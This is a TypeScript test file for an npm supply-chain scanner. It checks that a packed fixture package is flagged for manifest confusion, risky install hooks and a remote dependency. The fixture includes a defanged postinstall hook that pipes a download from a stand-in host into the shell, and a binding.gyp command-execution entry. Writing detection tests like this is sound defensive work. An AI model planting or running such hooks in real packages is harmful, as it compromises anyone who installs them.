import { describe, expect, it } from 'vitest';
import { packageJsonOf, readTarball } from '../../tarball/index.js';
import { makeTgz } from '../../tarball/testdata/make-tarball.js';
import { extractManifestFacts, metadataSignals } from './index.js';

/** A defanged copy of the manifest-confusion and install-hook patterns, packed as npm packs. */
const manifest = {
  name: 'acme-color-utils',
  version: '2.0.0',
  main: 'index.js',
  repository: 'github:chalk/chalk',
  scripts: { preinstall: 'node ./setup.js', postinstall: 'curl -s https://collector.example.invalid/x | sh' },
  dependencies: { 'acme-helper': 'https://cdn.example.invalid/acme-helper-1.0.0.tgz' },
};

describe('facts from a packed tarball', () => {
  it('reads the tarball package.json, classifies its hooks and compares it with the registry', async () => {
    const tgz = await makeTgz([
      { name: 'package/package.json', content: JSON.stringify(manifest) },
      { name: 'package/index.js', content: 'module.exports = 1;\n' },
      { name: 'package/binding.gyp', content: "{ 'targets': [{ 'libraries': ['<!(id)'] }] }" },
    ]);
    const contents = await readTarball(tgz, { source: 'acme-color-utils-2.0.0.tgz' });
    const own = packageJsonOf(contents);
    expect(own.ok).toBe(true);
    if (!own.ok) return;

    const facts = extractManifestFacts(own.manifest, contents.files);
    expect(facts.bindingGyp).toEqual({ commands: ['id'] });
    expect(facts.scriptFacts.map((fact) => [fact.script, fact.signals, fact.missingFiles])).toEqual([
      ['preinstall', ['missing-file'], ['setup.js']],
      ['postinstall', ['download', 'pipe-to-shell'], []],
    ]);

    const registryVersion = { name: 'acme-color-utils', version: '2.0.0', main: 'index.js' };
    const packument = {
      name: 'acme-color-utils',
      'dist-tags': { latest: '2.0.0' },
      versions: { '2.0.0': registryVersion },
    };
    const signals = metadataSignals({
      packument,
      version: '2.0.0',
      tarballManifest: own.manifest,
      files: contents.files,
    });
    expect(signals.map((signal) => signal.kind)).toEqual([
      'manifest-confusion',
      'remote-dependency',
      'repository-of-popular-package',
    ]);
    const confusion = signals[0];
    expect(
      confusion?.kind === 'manifest-confusion' && confusion.mismatches.map((m) => `${m.field}.${m.key}`),
    ).toEqual(['scripts.preinstall', 'scripts.postinstall', 'dependencies.acme-helper']);
  });
});
